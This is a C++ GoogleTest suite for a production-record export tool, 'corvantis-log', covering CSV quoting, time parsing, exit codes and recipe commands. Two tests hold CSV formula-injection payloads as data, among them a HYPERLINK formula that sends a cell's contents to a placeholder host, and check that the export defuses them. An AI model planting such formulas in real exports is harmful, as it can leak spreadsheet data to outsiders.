// corvantis-log: arguments and exit status, CSV quoting, times, and a
// round trip of 1,000 attempts through the real program and Python's csv
// module.
#include "LogTool.h"

#include "RecordSupport.h"

#include <QCoreApplication>
#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QTemporaryDir>

#include <gtest/gtest.h>

#include <sstream>

namespace {

class LogTool : public ::testing::Test {
protected:
    void SetUp() override
    {
        CProductionRecord record;
        ASSERT_TRUE(record.Open(Path));
        for (int i = 1; i <= 10; ++i)
            ASSERT_TRUE(record.Insert(SampleAttempt(i)));
    }

    int Run(QStringList args)
    {
        Out.str({});
        Err.str({});
        args.prepend(Path);
        args.prepend("--database");
        return RunLogTool(args, Out, Err);
    }

    QTemporaryDir Dir;
    QString Path = Dir.filePath("production.db");
    std::ostringstream Out, Err;
};

}  // namespace

TEST(CsvField, QuotesOnlyWhatNeedsIt)
{
    const std::pair<const char*, const char*> rows[] = {
        {"plain", "plain"},
        {"", ""},
        {"a,b", "\"a,b\""},
        {"say \"hi\"", "\"say \"\"hi\"\"\""},
        {"two\nlines", "\"two\nlines\""},
        {"cr\rhere", "\"cr\rhere\""},
    };
    for (const auto& [in, out] : rows)
        EXPECT_EQ(CsvField(in).toStdString(), out);
}

// A text cell a spreadsheet would read as a formula starts with an apostrophe.
TEST(CsvText, KeepsFormulasFromSpreadsheets)
{
    const std::pair<const char*, const char*> rows[] = {
        {"=HYPERLINK(\"http://x/?\"&A1)", "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\""},
        {"@SUM(1+1)", "'@SUM(1+1)"},
        {"+1", "'+1"},
        {"-25", "'-25"},
        {"\tCOM1", "'\tCOM1"},
        {"\rx", "\"'\rx\""},
        {"COM=1", "COM=1"},
        {" =1", " =1"},
        {"'quoted", "'quoted"},
        {"", ""},
    };
    for (const auto& [in, out] : rows)
        EXPECT_EQ(CsvText(in).toStdString(), out) << in;
}

TEST(NormaliseTime, AcceptsDatesAndZonesGivesUtc)
{
    const std::pair<const char*, const char*> rows[] = {
        {"2026-12-07", "2026-12-07T00:00:00.000Z"},
        {"2026-12-07T13:05:00Z", "2026-12-07T13:05:00.000Z"},
        {"2026-12-07T13:05:00", "2026-12-07T13:05:00.000Z"},
        {"2026-12-07T15:05:00+02:00", "2026-12-07T13:05:00.000Z"},
        {"2026-12-07T00:30:00.250-01:00", "2026-12-07T01:30:00.250Z"},
        {"2026-12-07T18:35:00+0530", "2026-12-07T13:05:00.000Z"},
        // Past the last time a record holds, or before the first: every row is before, or after.
        {"9999-12-31T23:00:00-05:00", "9999-12-31T24:00:00.000Z"},
        {"0001-01-01T00:30:00+01:00", "0000-01-01T00:00:00.000Z"},
        {"yesterday", ""},
        {"2026-13-01", ""},
        {"", ""},
    };
    for (const auto& [in, out] : rows)
        EXPECT_EQ(NormaliseTime(in).toStdString(), out) << in;
}

TEST(IsConninfo, TellsALineDatabaseFromAFile)
{
    const std::pair<const char*, bool> rows[] = {
        {"host=line-db dbname=corvantis", true},
        {"  dbname = corvantis", true},
        {"postgresql://line-db/corvantis", true},
        {"postgres://line-db", true},
        {"/var/lib/production.db", false},
        {"./host=x.db", false},
        {"production.db", false},
        {"postgresql:/line-db", false},
        {"", false},
    };
    for (const auto& [text, conninfo] : rows)
        EXPECT_EQ(IsConninfo(text), conninfo) << text;
}

TEST_F(LogTool, LineWithoutALineInTheSettingsExitsTwo)
{
    const QByteArray previous = qgetenv("XDG_CONFIG_HOME");
    qputenv("XDG_CONFIG_HOME", "/nonexistent/config");
    std::ostringstream out, err;
    EXPECT_EQ(RunLogTool({"--line", "summary"}, out, err), 2);
    qputenv("XDG_CONFIG_HOME", previous);
    EXPECT_EQ(err.str(), "corvantis-log: this station is in no line: /nonexistent/config/Quillfern/Corvantis.conf "
                         "has no [Line] Database\n");
    EXPECT_EQ(out.str(), "");
}

TEST_F(LogTool, BadArgumentsExitOneWithUsage)
{
    const QStringList rows[] = {
        {},
        {"frobnicate"},
        {"export"},
        {"export", "--format", "xml"},
        {"export", "--format", "csv", "--since", "last week"},
        {"export", "--format", "csv", "--serial", "-1"},
        {"export", "--format", "csv", "--serial", "4294967296"},
        {"export", "--format", "csv", "--result", "ok"},
        {"export", "--format", "csv", "extra"},
        {"export", "--format"},
        {"summary", "--serial", "5"},
        {"find"},
        {"find", "12x"},
        {"find", "5", "--device", "MSP430F149"},
        {"--colour", "red", "summary"},
        {"pool", "show"},                                  // a file is no line
        {"--database", "./host=x.db", "pool", "show"},
        {"--line", "--database", "host=x", "summary"},
    };
    for (const QStringList& args : rows) {
        EXPECT_EQ(Run(args), 1) << args.join(' ').toStdString();
        EXPECT_NE(Err.str().find("usage: corvantis-log"), std::string::npos) << args.join(' ').toStdString();
        EXPECT_EQ(Out.str(), "");
    }
}

TEST_F(LogTool, AnUnreadableRecordExitsTwo)
{
    const QString garbage = Dir.filePath("garbage.db");
    QFile f(garbage);
    ASSERT_TRUE(f.open(QIODevice::WriteOnly));
    f.write(QByteArray(4096, 'x'));
    f.close();
    for (const QString& file : {Dir.filePath("missing.db"), garbage, Dir.path()}) {
        std::ostringstream out, err;
        EXPECT_EQ(RunLogTool({"--database", file, "summary"}, out, err), 2) << file.toStdString();
        EXPECT_NE(err.str().find(file.toStdString()), std::string::npos) << err.str();
    }
    EXPECT_FALSE(QFile::exists(Dir.filePath("missing.db"))) << "reading must not create the file";
}

// A batch the setup check refused touched no unit: outside units and yield.
TEST_F(LogTool, SummaryCountsRefusedBatchesApart)
{
    {
        CProductionRecord record;
        ASSERT_TRUE(record.Open(Path));
        CAttempt refused = SampleAttempt(11);   // MSP430F149, the same day
        refused.Result = "refused";
        refused.Step = "Check";
        refused.Recipe = "blink";
        refused.RecipeVersion = 2;
        ASSERT_TRUE(record.Insert(refused));
    }
    ASSERT_EQ(Run({"summary", "--since", "2026-03-02T08:00:05Z", "--device", "MSP430F149"}), 0);
    EXPECT_NE(Out.str().find("\nMSP430F149\t3\t2\t1\t0\t66.7%\t1\n"), std::string::npos) << Out.str();
    EXPECT_NE(Out.str().find("\nblink version 2\t0\t0\t0\t0\t-\t1\n"), std::string::npos) << Out.str();
    ASSERT_EQ(Run({"export", "--format", "csv", "--result", "refused"}), 0);
    EXPECT_NE(Out.str().find("00000000-0000-4000-8000-000000000011,"), std::string::npos);
    // By recipe, and by recipe and version.
    struct CRow { const char* Recipe; int Rows; };
    for (const CRow& row : {CRow{"blink", 1}, CRow{"blink:2", 1}, CRow{"blink:1", 0}, CRow{"other", 0}}) {
        ASSERT_EQ(Run({"export", "--format", "csv", "--recipe", row.Recipe}), 0) << Err.str();
        const std::string rows = Out.str();
        EXPECT_EQ(std::count(rows.begin(), rows.end(), '\n'), 1 + row.Rows) << row.Recipe;
    }
    EXPECT_EQ(Run({"export", "--format", "csv", "--recipe", "blink:x"}), 1);
    EXPECT_NE(Err.str().find("--recipe \"blink:x\" is no recipe NAME or NAME:VERSION"), std::string::npos);
}

TEST_F(LogTool, FiltersSummaryAndFind)
{
    ASSERT_EQ(Run({"export", "--format", "csv", "--result", "failed", "--device", "MSP430F112"}), 0);
    // Attempt 10 is the only failed F112 (even numbers are F112, every fifth fails).
    std::istringstream lines(Out.str());
    std::string header, row, more;
    std::getline(lines, header);
    std::getline(lines, row);
    EXPECT_EQ(row.substr(0, 37), "00000000-0000-4000-8000-000000000010,");
    EXPECT_NE(row.find(",failed,Verify,\"Unable to verify (FFFFFFE7)"), std::string::npos);

    ASSERT_EQ(Run({"summary", "--since", "2026-03-02T08:00:05Z"}), 0);
    EXPECT_EQ(Out.str(),
              "day (UTC)\tunits\tpassed\tfailed\tinterrupted\tyield\trefused\n"
              "2026-03-02\t6\t4\t2\t0\t66.7%\t0\n"
              "\n"
              "device\tunits\tpassed\tfailed\tinterrupted\tyield\trefused\n"
              "MSP430F112\t3\t2\t1\t0\t66.7%\t0\n"
              "MSP430F149\t3\t2\t1\t0\t66.7%\t0\n"
              "\n"
              "firmware SHA-256\tunits\tpassed\tfailed\tinterrupted\tyield\trefused\n"
              "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\t4\t2\t2\t0\t50.0%\t0\n"
              "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb\t2\t2\t0\t0\t100.0%\t0\n"
              "\n"
              "recipe\tunits\tpassed\tfailed\tinterrupted\tyield\trefused\n"
              "(none)\t6\t4\t2\t0\t66.7%\t0\n");

    // An offset that carries --since past the year 9999: after every row.
    ASSERT_EQ(Run({"export", "--format", "csv", "--since", "9999-12-31T23:00:00-05:00"}), 0) << Err.str();
    const std::string late = Out.str();
    EXPECT_EQ(std::count(late.begin(), late.end(), '\n'), 1) << "header only";

    ASSERT_EQ(Run({"find", "1003"}), 0);
    const std::string found = Out.str();
    EXPECT_EQ(std::count(found.begin(), found.end(), '\n'), 2) << found;
    EXPECT_NE(found.find("\r\nnumber written,00000000-0000-4000-8000-000000000003,"), std::string::npos);
    ASSERT_EQ(Run({"find", "1007"}), 0);  // attempt 7 carried no number
    const std::string none = Out.str();
    EXPECT_EQ(std::count(none.begin(), none.end(), '\n'), 1) << "header only";

    ASSERT_EQ(Run({"export", "--format", "json", "--serial", "1005"}), 0);
    const QJsonArray json = QJsonDocument::fromJson(QByteArray::fromStdString(Out.str())).array();
    ASSERT_EQ(json.size(), 1);
    const QJsonObject o = json[0].toObject();
    EXPECT_EQ(o["serial_value"].toInt(), 1005);
    EXPECT_EQ(o["error_code"].toInt(), -25);
    EXPECT_EQ(o["serial_written"].toInt(), 0);
    EXPECT_TRUE(o["fuse_blown"].isNull());
    EXPECT_EQ(o["vcc"].toDouble(), 3.3);
    EXPECT_EQ(o["error_text"].toString(), "Unable to verify (FFFFFFE7)\nunit 5, \"bad\" cell");
}

// 1,000 attempts, exported by the program itself, read back by Python's csv
// module field for field.
TEST_F(LogTool, ThousandAttemptsSurviveACsvReader)
{
    {
        CProductionRecord record;
        ASSERT_TRUE(record.Open(Path));
        QList<CAttempt> rows;
        for (int i = 11; i <= 1000; ++i)
            rows.append(SampleAttempt(i));
        ASSERT_TRUE(record.InsertAll(rows)) << record.ErrorText().toStdString();
    }
    const QString csv = Dir.filePath("export.csv");
    QProcess tool;
    tool.setStandardOutputFile(csv);
    tool.start(QCoreApplication::applicationDirPath() + "/corvantis-log",
               {"--database", Path, "export", "--format", "csv"});
    ASSERT_TRUE(tool.waitForFinished(60000));
    ASSERT_EQ(tool.exitCode(), 0) << tool.readAllStandardError().toStdString();

    QProcess python;
    python.start("python3", {"-c", "import csv, json, sys\n"
                                   "with open(sys.argv[1], newline='') as f:\n"
                                   "    print(json.dumps(list(csv.reader(f, strict=True))))\n",
                             csv});
    ASSERT_TRUE(python.waitForFinished(60000));
    ASSERT_EQ(python.exitCode(), 0) << python.readAllStandardError().toStdString();
    const QJsonArray table = QJsonDocument::fromJson(python.readAllStandardOutput()).array();
    ASSERT_EQ(table.size(), 1001);
    const QJsonArray header = table[0].toArray();
    ASSERT_EQ(header.size(), 28);
    EXPECT_EQ(header[0].toString(), "id");
    EXPECT_EQ(header[25].toString(), "fuse_blown");
    EXPECT_EQ(header[27].toString(), "recipe_version");
    auto cell = [&](int row, const char* column) {
        for (int c = 0; c < header.size(); ++c)
            if (header[c].toString() == column)
                return table[row].toArray()[c].toString();
        return QString("(no column %1)").arg(column);
    };
    for (int i = 1; i <= 1000; ++i) {
        const CAttempt a = SampleAttempt(i);  // oldest first: row i is attempt i
        ASSERT_EQ(table[i].toArray().size(), 28) << "row " << i;
        EXPECT_EQ(cell(i, "id"), a.Id);
        EXPECT_EQ(cell(i, "started_at"), a.StartedAt);
        EXPECT_EQ(cell(i, "station"), "line-3, bay \"B\"");
        EXPECT_EQ(cell(i, "firmware"), "/srv/fw/node, rev \"7\".txt");
        EXPECT_EQ(cell(i, "vcc"), "3.3");
        EXPECT_EQ(cell(i, "serial_value"), i % 7 ? QString::number(1000 + i) : QString());
        EXPECT_EQ(cell(i, "result"), i % 5 ? "passed" : "failed");
        EXPECT_EQ(cell(i, "error_text"),
                  i % 5 ? QString() : QString("Unable to verify (FFFFFFE7)\nunit %1, \"bad\" cell").arg(i));
        if (HasFailure())
            break;
    }
    EXPECT_EQ(cell(5, "step"), "Verify");
    EXPECT_EQ(cell(5, "error_code"), "-25");
    EXPECT_EQ(cell(1000, "started_at"), "2026-03-02T08:16:40.000Z");
}

// Hostile texts in a row that any station of a line can write: CSV keeps
// them from a spreadsheet's formulas, numbers stay numbers, JSON carries
// them as they are.
TEST_F(LogTool, FormulasInTextCellsAreDefusedInCsvOnly)
{
    CAttempt hostile = SampleAttempt(20);  // fails with error code -25
    hostile.Port = "=HYPERLINK(\"http://x/?\"&A1)";
    hostile.Device = "@SUM(1+1)";
    hostile.Operator = "-op";
    {
        CProductionRecord record;
        ASSERT_TRUE(record.Open(Path));
        ASSERT_TRUE(record.Insert(hostile));
    }
    ASSERT_EQ(Run({"export", "--format", "csv", "--serial", "1020"}), 0) << Err.str();
    const std::string csv = Out.str();
    EXPECT_NE(csv.find(",'-op,\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\",115200,'@SUM(1+1),31,3.3,"), std::string::npos)
        << csv;
    EXPECT_NE(csv.find(",failed,Verify,\"Unable to verify (FFFFFFE7)\nunit 20, \"\"bad\"\" cell\",-25,,,\r\n"),
              std::string::npos) << csv;
    ASSERT_EQ(Run({"export", "--format", "json", "--serial", "1020"}), 0) << Err.str();
    const QJsonObject o = QJsonDocument::fromJson(QByteArray::fromStdString(Out.str())).array()[0].toObject();
    EXPECT_EQ(o["port"].toString(), hostile.Port);
    EXPECT_EQ(o["device"].toString(), "@SUM(1+1)");
    EXPECT_EQ(o["operator"].toString(), "-op");
    EXPECT_EQ(o["error_code"].toInt(), -25);
}

// find lists every attempt that carried the number; the first column tells
// which one wrote it to a unit.
TEST_F(LogTool, FindMarksTheAttemptThatWroteTheNumber)
{
    CAttempt reserved = SampleAttempt(11), wrote = SampleAttempt(12), lost = SampleAttempt(13);
    reserved.SerialValue = wrote.SerialValue = lost.SerialValue = 4711;
    reserved.Result = "failed";
    reserved.SerialWritten = false;
    lost.Result = "interrupted";
    lost.SerialWritten.reset();
    {
        CProductionRecord record;
        ASSERT_TRUE(record.Open(Path));
        ASSERT_TRUE(record.InsertAll({reserved, wrote, lost}));
    }
    ASSERT_EQ(Run({"find", "4711"}), 0) << Err.str();
    std::istringstream lines(Out.str());
    std::string line;
    QStringList marks;
    while (std::getline(lines, line))
        marks << QString::fromStdString(line.substr(0, line.find(',')));
    EXPECT_EQ(marks, (QStringList{"on_unit", "number not written", "number written", "number unknown"}));
}

// The export streams: a record damaged near its end gives the rows before
// the damage, then the reason and exit status 2 (never a clean end).
TEST_F(LogTool, ADamagedRecordExportsTheRowsBeforeTheDamageAndExitsTwo)
{
    {
        CProductionRecord record;
        ASSERT_TRUE(record.Open(Path));
        QList<CAttempt> rows;
        for (int i = 11; i <= 1000; ++i)
            rows.append(SampleAttempt(i));
        ASSERT_TRUE(record.InsertAll(rows));
    }
    // The table page that holds attempt 900's error text gets a page type
    // that no page has.
    QFile file(Path);
    ASSERT_TRUE(file.open(QIODevice::ReadWrite));
    const QByteArray bytes = file.readAll();
    const qsizetype at = bytes.indexOf("unit 900, \"bad\" cell");
    ASSERT_GT(at, 0);
    const int pageSize = (static_cast<uchar>(bytes[16]) << 8) | static_cast<uchar>(bytes[17]);
    ASSERT_TRUE(file.seek(at / pageSize * pageSize) && file.write("\x7f", 1) == 1);
    file.close();

    for (const char* format : {"csv", "json"}) {
        EXPECT_EQ(Run({"export", "--format", format}), 2) << format;
        EXPECT_NE(Err.str().find("cannot be read:\n" + Path.toStdString()), std::string::npos) << Err.str();
        EXPECT_NE(Out.str().find("00000000-0000-4000-8000-000000000800"), std::string::npos) << format;
        EXPECT_EQ(Out.str().find("00000000-0000-4000-8000-000000001000"), std::string::npos) << format;
    }
}

// The engineer's recipe commands on a recipe folder: bad input names what is
// wrong and makes nothing; a setup the station's check refuses is refused;
// versions count up, export gives the approved image back, retire ends it.
TEST_F(LogTool, RecipesInAFolder)
{
    const QString folder = Dir.filePath("recipes");
    const QString fw = QStringLiteral(CORV_SOURCE_DIR "/examples/blink-f112.txt");
    const auto recipe = [&](QStringList args) {
        Out.str({});
        Err.str({});
        return RunLogTool(QStringList{"--folder", folder, "recipe"} + args, Out, Err);
    };
    const QStringList good{"create", "blink", "--firmware", fw, "--device", "MSP430F112", "--vcc", "3.0"};
    struct CRow {
        QStringList Args;
        const char* Error;
    };
    const CRow bad[] = {
        {{"create", "blink", "--device", "MSP430F112", "--vcc", "3"}, "recipe create needs --firmware"},
        {{"create", "bl ink", "--firmware", fw, "--device", "MSP430F112", "--vcc", "3"}, "\"bl ink\" cannot name a recipe"},
        {{"create", "blink", "--firmware", fw, "--device", "MSP430F112", "--vcc", "nan"}, "--vcc takes a supply voltage"},
        {{"create", "blink", "--firmware", fw, "--device", "MSP430X999", "--vcc", "3"}, "--device \"MSP430X999\" names no device"},
        {{"create", "blink", "--firmware", folder + "/none.txt", "--device", "MSP430F112", "--vcc", "3"}, "is no readable file"},
        {good + QStringList{"--serial-type", "word"}, "--serial-type word needs --serial-address HEX"},
        {good + QStringList{"--serial-type", "qword", "--serial-address", "1000"}, "--serial-type takes none"},
        {good + QStringList{"--pool", "P"}, "--pool needs the line database"},
        // The serial number on the image itself: the station's setup check refuses.
        {good + QStringList{"--serial-type", "word", "--serial-address", "F000"}, "recipe blink is refused: Batch not started"},
        {{"show", "blink"}, "There is no recipe named blink"},
        {{"retire", "blink"}, "There is no recipe named blink"},
        {{"show", "blink", "--version", "0"}, "--version \"0\" is no version number"},
        {{"launch", "blink"}, "recipe: unknown command \"launch\""},
    };
    for (const CRow& row : bad) {
        EXPECT_EQ(recipe(row.Args), 1) << row.Args.join(' ').toStdString();
        EXPECT_NE(Err.str().find(row.Error), std::string::npos) << Err.str();
        EXPECT_TRUE(QDir(folder).isEmpty()) << "a refused command changed the folder";
    }
    ASSERT_EQ(recipe(good), 0) << Err.str();
    ASSERT_EQ(recipe(good + QStringList{"--erase-info", "--serial-type", "word", "--serial-address", "1000"}), 0)
        << Err.str();
    EXPECT_EQ(Out.str().rfind("created recipe blink version 2: blink-f112.txt, SHA-256 ", 0), 0u) << Out.str();
    ASSERT_EQ(recipe({"show", "blink", "--version", "1"}), 0);
    EXPECT_NE(Out.str().find("version: 1\nstate: in use\ndevice: MSP430F112\nvcc: 3.0\n"), std::string::npos) << Out.str();
    ASSERT_EQ(recipe({"show", "blink"}), 0);
    EXPECT_NE(Out.str().find("erase info: yes\nblow fuse: no\nserial type: word\nserial address: 1000\n"),
              std::string::npos) << Out.str();
    ASSERT_EQ(recipe({"list"}), 0);
    const std::string listed = Out.str();
    EXPECT_EQ(std::count(listed.begin(), listed.end(), '\n'), 2) << listed;
    const QString out = Dir.filePath("back.txt");
    ASSERT_EQ(recipe({"export", "blink", "--firmware-out", out}), 0) << Err.str();
    QFile original(fw), back(out);
    ASSERT_TRUE(original.open(QIODevice::ReadOnly) && back.open(QIODevice::ReadOnly));
    EXPECT_EQ(back.readAll(), original.readAll());
    ASSERT_EQ(recipe({"retire", "blink"}), 0);
    EXPECT_EQ(recipe(good), 1);
    EXPECT_NE(Err.str().find("Recipe blink is retired"), std::string::npos) << Err.str();
    ASSERT_EQ(recipe({"show", "blink", "--version", "1"}), 0);
    EXPECT_NE(Out.str().find("state: retired"), std::string::npos);
}
